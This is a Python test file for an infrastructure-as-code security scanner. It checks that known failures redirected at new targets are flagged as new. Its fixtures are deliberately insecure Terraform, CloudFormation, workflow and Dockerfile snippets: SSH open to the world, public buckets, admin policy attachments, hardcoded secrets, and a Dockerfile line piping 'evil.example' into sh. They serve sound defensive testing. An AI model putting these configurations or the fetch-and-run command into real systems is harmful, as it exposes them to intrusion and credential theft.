"""A known failure that is directed at something else, or has a further cause, is new; harmless changes are not."""

from __future__ import annotations

import json
from pathlib import Path

from cli.pushes import ci, workspace
from cli.test_ci_base import commit, git, write

RULE = """resource "aws_security_group" "web" {}
resource "aws_security_group" "db" {}
resource "aws_vpc_security_group_ingress_rule" "r" {
  security_group_id = aws_security_group.web.id
  description       = "temporary"
  from_port         = 22
  to_port           = 22
  ip_protocol       = "tcp"
  cidr_ipv4         = "0.0.0.0/0"
}
"""
TEMPLATE = (
    "Resources:\n  R: {Type: AWS::EC2::SecurityGroupIngress, Properties: "
    "{GroupId: sg-1, IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 0.0.0.0/0}}\n"
)
POLICY = """resource "aws_s3_bucket_policy" "p" {
  bucket = "website"
  policy = jsonencode({Version = "2012-10-17", Statement = [
    {Effect = "Allow", Principal = "*", Action = ["s3:GetObject", "s3:ListBucket"], Resource = "*"}
  ]})
}
"""
ATTACHED = """resource "aws_iam_%(kind)s_policy_attachment" "a" {
  %(kind)s   = "breakglass"
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
"""
TO_ALL = """resource "aws_iam_policy_attachment" "a" {
  name       = "a"
  %s         = ["anne.martin", "paul.durand"]
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
"""
ADDRESS = """resource "aws_lambda_function_url" "u" {
  function_name      = "site"
  authorization_type = "NONE"
}
"""
ACL = 'resource "aws_s3_bucket_acl" "a" {\n  bucket = "website"\n  acl    = "public-read"\n}\n'
METHOD = """resource "aws_api_gateway_method" "m" {
  rest_api_id   = "a"
  resource_id   = "health"
  http_method   = "GET"
  authorization = "NONE"
}
"""
ROUTE = 'resource "aws_apigatewayv2_route" "r" {\n  api_id    = "shop"\n  route_key = "GET /"\n}\n'
IMAGE = 'resource "aws_ami_launch_permission" "p" {\n  image_id = "ami-1"\n  group    = "all"\n}\n'
LOGS = """resource "aws_eks_cluster" "c" {
  name                      = "c"
  role_arn                  = "r"
  enabled_cluster_log_types = ["api", "audit"]
  vpc_config {
    subnet_ids             = ["a"]
    endpoint_public_access = false
  }
}
"""
PLAIN = """  ordered_cache_behavior {
    path_pattern           = "/img"
    target_origin_id       = "o"
    viewer_protocol_policy = "allow-all"
    allowed_methods        = ["GET"]
    cached_methods         = ["GET"]
  }
"""
SITE = """resource "aws_cloudfront_distribution" "d" {
  enabled = true
  default_cache_behavior {
    target_origin_id       = "o"
    viewer_protocol_policy = "https-only"
    allowed_methods        = ["GET"]
    cached_methods         = ["GET"]
  }
%s  origin {
    origin_id   = "o"
    domain_name = "o.example.org"
  }
}
"""
SCRIPT = """resource "aws_instance" "i" {
  ami           = "ami-1"
  instance_type = "t3.micro"
  user_data     = "export DB_PASSWORD=Sup3rS3cret2024"
}
"""
ENGINE = 'resource "aws_db_instance" "d" {\n  engine         = "mysql"\n  engine_version = "5.7"\n}\n'
RIGHTS = """name: x
on: [push]
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps: [{run: make}]
"""
CALLED = """name: x
on: [push]
permissions: {contents: read}
jobs:
  a:
    uses: acme/ci/.github/workflows/x.yml@main
"""
STAGE = "FROM python:latest\nUSER app\n"
FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER app\n"


Case = tuple[str, str, str, str]  # a file, its text in the base, what of it a push replaces, and by what


def told_as_new(folder: Path, cases: list[Case]) -> set[Case]:
    """Return the cases of which a push that has all of them, each in a folder of its own, has a failure as new."""
    shop = workspace(folder / "shop", 'resource "aws_ebs_volume" "v" {\n  encrypted = true\n}\n')
    settings = shop / "preuve.yaml"
    kinds = ("terraform", "cloudformation", "dockerfile", "github_actions")
    scope = ", ".join(f"{{path: {'.' if kind == 'github_actions' else 'infra'}, kind: {kind}}}" for kind in kinds)
    settings.write_text(settings.read_text().replace("{path: infra, kind: terraform}", scope))
    (shop / ".github" / "workflows").mkdir(parents=True)
    files = {_place(number, case[0]): case for number, case in enumerate(cases)}
    assert all(old in text for _, text, old, _ in cases)
    write(shop, {place: text for place, (_, text, _, _) in files.items()})
    git(shop, "init", "-q", "-b", "main")
    commit(shop)
    write(shop, {place: text.replace(old, new) for place, (_, text, old, new) in files.items()})
    answer = ci(shop, "--base", "main", "--gate", "low", "--json", str(folder / "push.json"))
    told = json.loads((folder / "push.json").read_text())["findings"]
    found = [one for one in told if one["status"] == "FAIL" and one["file"] in files]
    assert {one["file"] for one in found} == files.keys()
    new = {files[one["file"]] for one in found if not one["known"]}
    assert answer.exit_code == (10 if new else 0), answer.output
    return new


def _place(number: int, file: str) -> str:
    return f".github/workflows/{number}.yml" if file.endswith(".yml") else f"infra/{number}/{file}"


DIRECTED: list[Case] = [
    ("r.tf", RULE, "security_group.web.id", "security_group.db.id"),
    ("t.yaml", TEMPLATE, "sg-1", "sg-2"),
    ("r.tf", POLICY, "website", "customer-records"),
    *(("r.tf", ATTACHED % {"kind": kind}, "breakglass", "web") for kind in ("role", "user", "group")),
    *(("r.tf", TO_ALL % kind, "anne.martin", "eva.petit") for kind in ("users", "roles")),
    ("r.tf", ADDRESS, "site", "payments"),
    ("r.tf", ACL, "website", "customer-records"),
    ("r.tf", METHOD, '"GET"', '"ANY"'),
    ("r.tf", METHOD, "health", "admin"),
    ("r.tf", IMAGE, "ami-1", "ami-2"),
    ("r.tf", ROUTE, "shop", "payments"),
    ("r.tf", LOGS, '"api", "audit"', '"api"'),
    ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/login")),
    ("r.tf", SITE % PLAIN, "/img", "/login"),
    ("r.tf", SCRIPT, "2024", "2024\\nexport API_TOKEN=Zx9k2Lq8Vn3m1Qp0"),
    ("r.tf", ENGINE, "5.7", "5.6"),
    ("a.yml", RIGHTS, "contents: write", "contents: write, packages: write"),
    ("a.yml", CALLED, "acme", "evil"),
    ("Dockerfile", STAGE, "python", "evil/python"),
    ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
]
HARMLESS: list[Case] = [
    ("r.tf", RULE, "temporary", "of the migration"),
    ("r.tf", POLICY, ', "s3:ListBucket"', ""),
    ("r.tf", TO_ALL % "users", ', "paul.durand"', ""),
    ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/x").replace("allow-all", "https-only")),
    ("r.tf", SITE % (PLAIN + PLAIN.replace("/img", "/x")), PLAIN, ""),
    ("r.tf", SCRIPT, "export", "echo ready\\nexport"),
    ("r.tf", ENGINE, "engine  ", "# the shop's\n  engine  "),
    ("a.yml", RIGHTS, "run: make", "run: make test"),
    ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
]


def test_a_known_failure_directed_at_something_else_is_new(tmp_path: Path) -> None:
    assert told_as_new(tmp_path, DIRECTED) == set(DIRECTED)


def test_a_known_failure_stays_known_when_something_else_changes(tmp_path: Path) -> None:
    assert told_as_new(tmp_path, HARMLESS) == set()
